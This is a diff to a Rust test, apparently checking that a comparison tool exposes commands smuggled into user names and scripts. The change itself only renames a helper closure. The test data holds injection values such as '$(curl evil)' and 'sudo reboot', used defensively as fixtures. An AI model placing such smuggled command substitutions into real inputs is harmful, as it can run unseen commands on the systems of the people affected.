@@ -123,10 +123,10 @@ fn no_list_of_users_hides_a_command() {
     let text = lines(&diff).join("\n");
     assert!(["+ sudo reboot", "+ Up1User p1", "+ $(curl evil)"].iter().all(|line| text.contains(line)), "{text}");
     // Nor does a manifest hide one that has it for a name.
-    let named =
+    let script_of =
         |users: &[(&str, &str)], script: &str| folder(&[Side { template: json!({"Resources": {}}), users }], script);
-    let new = named(&[("p'$(curl evil)'", "n")], "users='\n0.yaml -\nUp'$(curl evil)'User p'$(curl evil)'\n'\n");
-    let text = lines(&compare(&named(&[], "users='\n'\n"), &new).0).join("\n");
+    let new = script_of(&[("p'$(curl evil)'", "n")], "users='\n0.yaml -\nUp'$(curl evil)'User p'$(curl evil)'\n'\n");
+    let text = lines(&compare(&script_of(&[], "users='\n'\n"), &new).0).join("\n");
     assert!(text.contains("+ Up'$(curl evil)'User") && !text.contains("0.yaml -"), "{text}");
 }
 
